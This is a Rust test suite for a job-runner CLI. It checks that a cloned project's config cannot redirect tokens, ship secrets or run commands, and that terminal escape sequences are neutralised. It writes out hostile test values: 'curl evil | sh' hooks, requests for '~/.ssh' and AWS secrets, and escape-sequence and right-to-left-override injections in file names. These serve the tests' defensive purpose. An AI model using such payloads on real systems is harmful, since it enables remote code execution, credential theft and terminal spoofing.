//! Who is trusted with what: a cloned project, a server elsewhere, other users of this machine, and text that came from
//! anywhere. Listeners here stand for an attacker's server, and must hear nothing.

use crate::session::{self, Session};
use std::io::{BufRead as _, BufReader, ErrorKind, Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::Path;
use std::process::{Child, Output};

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// An attacker's server: it counts connections and answers none.
fn attacker() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    (listener, url)
}

#[track_caller]
fn heard_nothing(attacker: &TcpListener) {
    assert_eq!(attacker.accept().map(drop).unwrap_err().kind(), ErrorKind::WouldBlock, "somebody connected");
}

/// A server in the foreground, with a home of its own, and its address.
fn server(session: &Session) -> (Child, String) {
    let mut server = session.begin("exec repl server --listen 127.0.0.1:0");
    let mut lines = BufReader::new(server.stderr.take().unwrap()).lines();
    let url = lines.find_map(|line| Some(line.unwrap().strip_prefix("repl: serving ")?.to_owned())).unwrap();
    (server, url)
}

#[test]
fn a_cloned_repository_gets_no_token_and_no_connection() {
    let session = Session::new();
    session.quietly("repl run -c true"); // this home has a control plane and a token of its own
    let (listener, url) = attacker();
    std::fs::write(session.here().join("repl.toml"), format!("url = '{url}'\n")).unwrap();
    std::fs::create_dir(session.here().join("below")).unwrap();
    for line in [
        "repl ps",
        "repl run -c true",
        "repl run --detach -c true",
        "repl status @last",
        "repl logs run_1",
        "repl token create x",
        "echo value | repl secret set X",
        "repl artifact get @last",
        "repl instance ls --json",
        "cd below && repl ps",
    ] {
        let output = session.shell(&format!("export REPL_TOKEN=rmd_mine; {line}")).output().unwrap();
        assert_eq!(output.status.code(), Some(2), "{line}: {}", said(&output));
        assert!(output.stdout.is_empty(), "{line}");
        for word in [url.as_str(), "no token is kept", &format!("repl login {url}"), "REPL_TOKEN goes only with"] {
            assert!(said(&output).contains(word), "{line}: `{word}` is missing in {}", said(&output));
        }
    }
    let doctor = session.shell("repl doctor").output().unwrap();
    assert_eq!(doctor.status.code(), Some(1), "it says what is wrong: {}", said(&doctor));
    heard_nothing(&listener);
    let browser = session.here().join("../bin/browser");
    std::fs::write(&browser, "#!/bin/sh\necho \"$@\" > opened\n").unwrap();
    std::fs::set_permissions(&browser, std::fs::Permissions::from_mode(0o755)).unwrap();
    // What these say is their own affair: some have nothing to do with an address.
    for line in [
        "repl complete bash 2 -- repl status ''",
        "repl complete bash 3 -- repl artifact get ''",
        "repl completion bash",
        "repl login",
        "repl login --list",
        "echo rmd_typed | repl login --token-stdin",
        "repl logout",
        "repl control token",
        "repl control status",
        "BROWSER=browser repl ui",
        "repl ui --print",
    ] {
        let output = session.shell(&format!("export REPL_TOKEN=rmd_mine; {line}")).output().unwrap();
        assert!(matches!(output.status.code(), Some(0..=2)), "{line}: {}", said(&output));
        let pages = line.contains("repl ui");
        assert!(!pages || said(&output).contains("no token is kept"), "{line}: {}", said(&output));
    }
    assert!(!session.here().join("opened").exists(), "a page could ask for a token");
    heard_nothing(&listener);
}

#[test]
fn a_projects_file_that_wants_more_is_refused_by_name() {
    let session = Session::new();
    let (listener, url) = attacker();
    for (text, named) in [
        (format!("url = '{url}'\ntoken = 'x'"), "`token`"),
        ("database = 'postgres://evil/x'".to_owned(), "`database`"),
        ("home = '/tmp/evil'".to_owned(), "`home`"),
        ("blobs = 'file:/etc'".to_owned(), "`blobs`"),
        ("listen = '0.0.0.0:1'".to_owned(), "`listen`"),
        ("log = 'trace'".to_owned(), "`log`"),
        ("[providers.local]\nmax_instances = 99".to_owned(), "[providers]"),
        ("[prices]\nlocal = '0'".to_owned(), "[prices]"),
        ("[holds]\nabsolute_max_debug_hold_ms = 1".to_owned(), "[holds]"),
        ("[notify]\nexec = 'curl evil | sh'".to_owned(), "[notify]"),
        ("[run]\nsecrets = ['HF_TOKEN']".to_owned(), "`run.secrets`"),
        ("[run]\nfiles = ['~/.ssh']".to_owned(), "`run.files`"),
        ("[run]\nenv = ['AWS_SECRET_ACCESS_KEY']".to_owned(), "`run.env`"),
        ("[run]\ncommands = ['curl evil']".to_owned(), "`run.commands`"),
    ] {
        std::fs::write(session.here().join("repl.toml"), &text).unwrap();
        let output = session.shell("AWS_SECRET_ACCESS_KEY=k REPL_TOKEN=rmd_mine repl run -c true").output().unwrap();
        let said = said(&output);
        assert_eq!(output.status.code(), Some(2), "{text}: {said}");
        assert!(said.contains("here/repl.toml: ") && said.contains(named), "{text}: {said}");
    }
    std::fs::remove_file(session.here().join("repl.toml")).unwrap();
    assert!(!session.home().exists(), "nothing was started");
    heard_nothing(&listener);
}

#[test]
fn a_token_is_kept_for_one_address_after_its_server_knew_it() {
    let (host, user) = (Session::new(), Session::new());
    let (mut process, url) = server(&host);
    let token = std::fs::read_to_string(host.home().join("token")).unwrap();
    let of_user = |line: &str| user.shell(line).output().unwrap();
    // A server that does not know it, or sends it elsewhere, is not believed.
    let wrong = of_user(&format!("echo rmd_wrong | repl login {url}"));
    assert_eq!(wrong.status.code(), Some(1), "{}", said(&wrong));
    let file = user.here().join("../.config/remuda/tokens.json");
    assert!(!file.exists(), "nothing was kept");
    let signed_in = of_user(&format!("umask 000; echo {token} | repl login {url}/ --token-stdin"));
    assert_eq!(signed_in.status.code(), Some(0), "{}", said(&signed_in));
    assert!(said(&signed_in).contains(&format!("signed in at {url} as owner (admin)")), "{}", said(&signed_in));
    assert!(!said(&signed_in).contains(token.trim()));
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let listed = user.json("repl login --list --json");
    assert_eq!((listed[0]["url"].as_str(), listed[0]["name"].as_str()), (Some(url.as_str()), Some("owner")));
    assert!(!listed.to_string().contains(token.trim()), "{listed}");
    // A project may point there now; and the address of another control plane gets nothing of it.
    std::fs::write(user.here().join("repl.toml"), format!("url = '{url}'\n[run]\nenv = {{ WHO = 'project' }}\n"))
        .unwrap();
    assert_eq!(user.quietly("repl run -c 'echo $WHO' 2>/dev/null"), "project\n");
    assert_eq!(user.quietly("repl run --env WHO=flag -c 'echo $WHO' 2>/dev/null"), "flag\n");
    assert!(!user.home().join("control.lock").exists(), "no control plane was started here");
    let (listener, elsewhere) = attacker();
    std::fs::write(user.here().join("repl.toml"), format!("url = '{elsewhere}'\n")).unwrap();
    assert_eq!(of_user("repl ps").status.code(), Some(2));
    heard_nothing(&listener);
    // Forgotten, it is refused again.
    std::fs::write(user.here().join("repl.toml"), format!("url = '{url}'\n")).unwrap();
    user.quietly(&format!("repl logout {url}"));
    let refused = of_user("repl ps");
    assert!(refused.status.code() == Some(2) && said(&refused).contains("no token is kept"), "{}", said(&refused));
    assert_eq!(of_user(&format!("repl logout {url}")).status.code(), Some(1));
    // Without an address it is that of the user's own settings, never that of a project.
    let nowhere = of_user("repl logout");
    assert!(nowhere.status.code() == Some(2) && said(&nowhere).contains("`repl logout` needs"), "{}", said(&nowhere));
    let own = of_user(&format!("REPL_URL={url} repl logout"));
    assert!(own.status.code() == Some(1) && said(&own).contains(&url), "{}", said(&own));
    std::fs::remove_file(user.here().join("repl.toml")).unwrap();
    host.quietly("repl control stop --all");
    assert!(process.wait().unwrap().success());
}

#[test]
fn a_redirect_takes_no_token_along() {
    let session = Session::new();
    let (listener, elsewhere) = attacker();
    let redirecting = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", redirecting.local_addr().unwrap());
    let redirects = std::thread::spawn(move || {
        for _ in 0..2 {
            let (mut peer, _) = redirecting.accept().unwrap();
            let mut head = [0; 4096];
            let _ = peer.read(&mut head).unwrap();
            let answer = format!(
                "HTTP/1.1 307 Temporary Redirect\r\nlocation: {elsewhere}/\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
            );
            peer.write_all(answer.as_bytes()).unwrap();
        }
    });
    let login = session.shell(&format!("echo rmd_mine | repl login {url}")).output().unwrap();
    assert!(login.status.code() == Some(2) && said(&login).contains("307"), "{}", said(&login));
    let ps = session.shell(&format!("REPL_URL={url} REPL_TOKEN=rmd_mine repl ps")).output().unwrap();
    assert!(ps.status.code() == Some(2) && said(&ps).contains("where the token is not sent"), "{}", said(&ps));
    redirects.join().unwrap();
    heard_nothing(&listener);
}

/// Everything below a folder with its mode, workdirs of jobs left out: those are the jobs' own.
fn modes(folder: &Path, all: &mut Vec<(String, u32)>) {
    for entry in std::fs::read_dir(folder).unwrap().map(Result::unwrap) {
        let Ok(found) = entry.metadata() else { continue };
        if found.is_symlink() {
            continue; // its own mode means nothing
        }
        all.push((entry.path().display().to_string(), found.mode() & 0o7777));
        if found.is_dir() && !entry.file_name().to_string_lossy().starts_with("work") {
            modes(&entry.path(), all);
        }
    }
}

#[test]
fn a_home_is_for_its_owner_only_whoever_makes_it_first() {
    let session = Session::new();
    for first in ["repl run -c true", "repl ps", "repl control start", "repl secret ls"] {
        let line = format!(
            "umask 000; {first} && repl run --artifact f --file ../bin/repl:big -c 'umask; echo x > f; ls -l f'"
        );
        let said = session.quietly(&line);
        assert!(said.contains("0022") && said.contains("-rw-r--r--"), "a job has the usual umask: {said}");
        assert_eq!(std::fs::metadata(session.home()).unwrap().mode() & 0o7777, 0o700);
        let mut all = Vec::new();
        modes(&session.home(), &mut all);
        for name in [
            "remuda.db",
            "remuda.db-wal",
            "remuda.db-shm",
            "remuda-logs.db",
            "control.log",
            "token",
            "runner.log",
            "last",
        ] {
            assert!(all.iter().any(|(path, _)| path.ends_with(&format!("/{name}"))), "{name} among {all:?}");
        }
        let wide: Vec<_> = all.iter().filter(|(_, mode)| mode & 0o077 != 0).collect();
        assert!(wide.is_empty(), "after {first}: {wide:?}");
        session.quietly("repl control stop --all");
        std::fs::remove_dir_all(session.home()).unwrap();
    }
}

#[test]
fn a_home_that_is_wider_is_tightened_and_anothers_is_refused() {
    let session = Session::new();
    session.quietly("repl run -c true && repl control stop --all && chmod -R a+rwX ../home");
    session.quietly("umask 000; repl run -c true");
    let mut all = Vec::new();
    modes(&session.home(), &mut all);
    let ours = |path: &str| Path::new(path).parent() == Some(&session.home());
    let wide: Vec<_> = all.iter().filter(|(path, mode)| ours(path) && mode & 0o077 != 0).collect();
    assert!(wide.is_empty() && std::fs::metadata(session.home()).unwrap().mode() & 0o077 == 0, "{wide:?}");
    session.quietly("repl control stop --all");
    let give = |path: &Path, user: u32| std::os::unix::fs::chown(path, Some(user), None).is_ok();
    let us = nix::unistd::geteuid().as_raw();
    if !give(&session.home(), 65534) {
        return crate::skip::skip("root", "only root can give folders away");
    }
    let refused = session.shell("repl ps").output().unwrap();
    assert!(refused.status.code() == Some(2) && said(&refused).contains("uid 65534"), "{}", said(&refused));
    assert!(said(&refused).contains("chown -R") && said(&refused).contains("REPL_HOME"), "{}", said(&refused));
    give(&session.home(), us);
    give(&session.home().join("remuda.db"), 65534);
    let refused = session.shell("repl ps").output().unwrap();
    assert!(refused.status.code() == Some(2) && said(&refused).contains("remuda.db belongs to"), "{}", said(&refused));
    give(&session.home().join("remuda.db"), us);
    session.quietly("repl ps");
}

/// What a person at a real terminal sees of a command.
fn on_a_terminal(session: &Session, line: &str) -> String {
    answered_on_a_terminal(session, line, "", "").0
}

/// The same, with an answer typed when the screen ends with the question; and the exit code.
fn answered_on_a_terminal(session: &Session, line: &str, question: &str, answer: &str) -> (String, Option<i32>) {
    // Inherited by each process that is started, as a careless program leaves it: one that outlives the command must not keep it.
    let pty = nix::pty::openpty(None, None).unwrap();
    let mut child = session
        .shell(line)
        .env("TERM", "xterm-256color")
        .stdin(pty.slave.try_clone().unwrap())
        .stdout(pty.slave.try_clone().unwrap())
        .stderr(pty.slave)
        .spawn()
        .unwrap();
    let mut screen = std::fs::File::from(pty.master);
    let (mut bytes, mut piece, mut asked) = (Vec::new(), [0; 4096], question.is_empty());
    // The other side is closed when every process that had it has ended.
    while let Ok(read @ 1..) = screen.read(&mut piece) {
        bytes.extend_from_slice(&piece[..read]);
        if !asked && String::from_utf8_lossy(&bytes).ends_with(question) {
            asked = true;
            screen.write_all(format!("{answer}\n").as_bytes()).unwrap();
        }
    }
    let ended = child.wait().unwrap();
    (String::from_utf8_lossy(&bytes).into_owned(), ended.code())
}

#[test]
fn a_person_is_asked_and_what_is_secret_is_not_shown() {
    let session = Session::new();
    session.quietly("REPL_LISTEN=127.0.0.1:0 repl control start");
    let url = session.json("repl control status --json")["url"].as_str().unwrap().to_owned();
    let token = std::fs::read_to_string(session.home().join("token")).unwrap();
    let question = format!("token for {url}: ");
    let (screen, code) = answered_on_a_terminal(&session, &format!("repl login {url}"), &question, token.trim());
    assert_eq!(code, Some(0), "{screen}");
    assert!(!screen.contains(token.trim()) && screen.contains("signed in"), "{screen}");
    let own = session.json("repl token ls --json")[0]["id"].as_str().unwrap().to_owned();
    let line = format!("repl token delete {own}");
    let (screen, code) = answered_on_a_terminal(&session, &line, "[y/N] ", "n");
    assert!(code == Some(1) && screen.contains("not deleted"), "{screen}");
    session.quietly("repl ps");
    let (screen, code) = answered_on_a_terminal(&session, &line, "[y/N] ", "y");
    assert!(code == Some(0) && screen.contains("repl control token makes a new one"), "{screen}");
    assert_eq!(session.shell("repl ps").output().unwrap().status.code(), Some(1));
    session.quietly("repl control token");
}

#[test]
fn escape_sequences_from_elsewhere_are_shown_and_not_obeyed() {
    let session = Session::new();
    // A title, a cleared screen, C1, a turned direction, and a line that looks like ours.
    let title = "\x1b]0;pwned\x07";
    let clear = "\u{9b}2J";
    let turned = "\u{202e}txt.exe";
    let command = format!("echo fine > 'a{title}{clear}{turned}'; : '{title}'; exit 3");
    std::fs::write(session.here().join("command"), command).unwrap();
    let line = "repl run --name odd --artifact 'a*' -c \"$(cat command)\"";
    let mut screens = vec![(line, on_a_terminal(&session, line))];
    assert!(screens[0].1.contains("exit code 3"), "{:?}", screens[0].1);
    for line in [
        "repl ps -a",
        "repl status odd",
        "repl why odd",
        "repl events odd",
        "repl artifact ls odd",
        "repl artifact get odd",
        "repl run --file \"$(printf 'gone\\033]0;pwned\\007')\" -c true",
        "repl run --env \"$(printf 'A\\033]0;pwned\\007')\" -c true",
        "repl status \"$(printf 'who\\033]0;pwned\\007')\"",
        "repl run \"$(printf 'no\\033]0;pwned\\007.repl.yml')\"",
        "repl run --provider \"$(printf 'p\\033]0;pwned\\007')\" -c true",
        "repl secret set \"$(printf 's\\033]0;pwned\\007')\" --from-env HOME",
        "repl control logs",
        "repl credits add 1 --memo \"$(printf 'm\\033]0;pwned\\007')\"; repl credits ledger",
    ] {
        screens.push((line, on_a_terminal(&session, line)));
    }
    for (line, screen) in &screens {
        for harmful in [title, clear, turned, "\x07", "\x1b]"] {
            assert!(!screen.contains(harmful), "{line}: {harmful:?} in {screen:?}");
        }
    }
    for (line, shown) in [("repl ps -a", "\\x1b]0;pwned\\x07"), ("repl artifact ls odd", "\\u{9b}2J\\u{202e}txt.exe")] {
        let (_, screen) = screens.iter().find(|(typed, _)| *typed == line).unwrap();
        assert!(screen.contains(shown), "{line}: {screen:?}");
    }
    // JSON says exactly what there is, in its own escapes.
    let listed = session.quietly("repl artifact ls odd --json");
    assert!(!listed.contains(turned) && listed.contains("\\u202e"), "{listed}");
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    assert_eq!(listed[0]["path"].as_str(), Some(format!("a{title}{clear}{turned}").as_str()));
    // The work's own output is the work's own.
    assert!(on_a_terminal(&session, "repl run -c 'printf \"\\033]0;mine\\007\"'").contains("\x1b]0;mine\x07"));
}

#[test]
fn output_that_cannot_be_written_is_an_error_and_no_panic() {
    let session = Session::new();
    session.quietly("repl run -c true");
    for line in ["repl ps -a > /dev/full", "repl ps -a --json > /dev/full", "repl status @last > /dev/full"] {
        let output = session.shell(line).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{line}: {}", said(&output));
        assert!(said(&output).contains("cannot write the output: No space left"), "{line}: {}", said(&output));
    }
}

#[test]
fn each_line_of_a_secret_is_hidden_and_a_short_one_is_told() {
    let session = Session::new();
    let stored = session.shell("printf 'first line\\nsecond line\\nabc\\n' | repl secret set KEY").output().unwrap();
    assert!(said(&stored).contains("1 line of KEY has fewer than 6 bytes"), "{}", said(&stored));
    let short = session.shell("echo 1234 | repl secret set PIN --json").output().unwrap();
    assert!(said(&short).contains("too short to be hidden in logs"), "{}", said(&short));
    let answer: serde_json::Value = serde_json::from_slice(&short.stdout).unwrap();
    assert_eq!(answer["masked"], false);
    let line =
        "repl run --secret KEY --secret PIN -c 'echo \"$KEY\" | sed s/^/-/; echo \"$PIN\"; echo \"$KEY\"' 2>/dev/null";
    assert_eq!(session.quietly(line), "-***\n-***\n-abc\n1234\n***\n");
}

#[test]
fn settings_that_need_a_restart_say_so() {
    let session = Session::new();
    session.quietly("repl run -c true");
    let note = |line: &str| said(&session.shell(line).output().unwrap());
    assert_eq!(note("repl ps -a >/dev/null"), "");
    let listen = note("REPL_LISTEN=127.0.0.1:0 repl ps -a >/dev/null");
    assert_eq!(listen, "repl: takes effect after `repl control stop`: listen = 127.0.0.1:0 (now: not set)\n");
    let config = session.here().join("mine.toml");
    std::fs::write(&config, "[prices]\nlocal = '0.5'\n[providers.local]\nmax_instances = 3\n").unwrap();
    let prices = note("repl --config mine.toml ps -a >/dev/null");
    assert!(
        prices.contains("prices.local = 0.5 (now: ") && prices.contains("providers.local.max_instances = 3"),
        "{prices}"
    );
    let database = note("REPL_DATABASE=postgres://ada:secret@db/x repl ps -a >/dev/null");
    assert!(database.contains("database = postgres://ada@db/x (now: sqlite:"), "{database}");
    let before = session.control_plane();
    session.quietly("repl control stop");
    session::wait_for_the_end_of(before);
    session.quietly("REPL_CONFIG=mine.toml repl ps -a");
    assert_eq!(note("REPL_CONFIG=mine.toml repl ps -a >/dev/null"), "");
    let status = session.json("repl instance ls --json; true");
    assert!(status.is_array());
    // What is taken out of the file is as much of a change as what is written into it.
    std::fs::write(&config, "[providers.local]\nmax_instances = 3\n").unwrap();
    let gone = note("REPL_CONFIG=mine.toml repl ps -a >/dev/null");
    assert!(gone.contains("prices.local = not set (now: 0.5)") && !gone.contains("max_instances"), "{gone}");
    assert_eq!(note("repl ps -a >/dev/null"), "", "a command that does not read the file knows nothing of it");
    let key = note("OPENAI_API_KEY=sk-secret repl ps -a >/dev/null");
    assert!(key.contains("OPENAI_API_KEY = hidden, ") && !key.contains("sk-secret"), "{key}");
}

#[test]
fn the_last_token_is_not_deleted_by_a_slip_and_there_is_a_way_back() {
    let session = Session::new();
    let tokens = session.json("repl token ls --json");
    let own = tokens[0]["id"].as_str().unwrap().to_owned();
    let kept = session.shell(&format!("repl token delete {own}")).output().unwrap();
    assert_eq!(kept.status.code(), Some(1), "{}", said(&kept));
    for word in ["the last that may manage tokens", "--yes", "repl control token"] {
        assert!(said(&kept).contains(word), "`{word}` is missing in {}", said(&kept));
    }
    // Another one may go without a word.
    session.quietly(
        "repl token delete $(repl token create other --json | sed -n 's/.*\"id\": \"\\(tok_[^\"]*\\)\".*/\\1/p')",
    );
    session.quietly(&format!("repl token delete {own} --yes"));
    let out = session.shell("repl ps").output().unwrap();
    assert!(out.status.code() == Some(1) && said(&out).contains("repl control token"), "{}", said(&out));
    let fresh = session.quietly("umask 000; repl control token 2>/dev/null");
    assert!(fresh.starts_with("rmd_"), "{fresh}");
    assert_eq!(std::fs::metadata(session.home().join("token")).unwrap().mode() & 0o777, 0o600);
    session.quietly("repl ps");
    assert_eq!(
        session.quietly("REPL_URL=http://127.0.0.1:1 REPL_TOKEN=rmd_x repl control token --json | head -n 1"),
        "{\n"
    );
    session.quietly("repl control stop && repl control token && repl ps -a");
}

#[test]
fn an_extension_says_what_it_became() {
    let session = Session::new();
    session.quietly("repl run --name one -c true");
    let capped = session.shell("repl extend one 9999d").output().unwrap();
    assert!(said(&capped).contains("9999d is more than a folder may be kept: capped, kept until"), "{}", said(&capped));
    let fine = session.shell("repl extend one 2h").output().unwrap();
    assert_eq!(said(&fine), "");
}

#[test]
fn why_names_who_ended_the_machine() {
    let session = Session::new();
    session.quietly("repl run --detach --name long -c 'sleep 600'");
    session.wait_for("long", "job.started");
    let machine = session.json("repl instance ls --json")[0]["id"].as_str().unwrap().to_owned();
    session.quietly(&format!(
        "REPL_TOKEN=$(repl token create carol 2>/dev/null) repl instance terminate {machine} --force"
    ));
    session.wait_for("long", "run.cancelled");
    let why = session.quietly("repl why long");
    assert!(why.contains("the token `carol` (tok_") && why.contains(&format!("terminated {machine}")), "{why}");
    assert!(why.contains("--force"), "{why}");
}

#[test]
fn run_defaults_of_a_project_are_weaker_than_a_run_file_and_flags() {
    let session = Session::new();
    let defaults = "[run]\nmax_duration = '1h'\nenv = { A = 'project', B = 'project', C = 'project' }\nartifacts = ['out/*']\nretry = 2\n";
    std::fs::write(session.here().join("repl.toml"), defaults).unwrap();
    std::fs::write(
        session.here().join("x.repl.yml"),
        "type: task\nname: x\nenv: {B: file, C: file}\ncommands: ['echo $A $B $C; mkdir out; echo x > out/x']\n",
    )
    .unwrap();
    assert_eq!(session.quietly("repl run x.repl.yml --env C=flag 2>/dev/null"), "project file flag\n");
    assert_eq!(session.json("repl artifact ls x --json")[0]["path"], "out/x");
    assert_eq!(session.json("repl status x --json")["run"]["max_attempts"], 2);
    let slow = session.shell("repl run --max-duration 1s -c 'sleep 60'").output().unwrap();
    assert_eq!(slow.status.code(), Some(124), "a flag is stronger");
    std::fs::write(session.here().join("repl.toml"), "[run]\nmax_duraton = '1h'\n").unwrap();
    let slip = session.shell("repl ps").output().unwrap();
    assert!(
        said(&slip).contains("unknown field `run.max_duraton`") && said(&slip).contains("did you mean `max_duration`?"),
        "{}",
        said(&slip)
    );
    std::fs::remove_file(session.here().join("repl.toml")).unwrap();
}
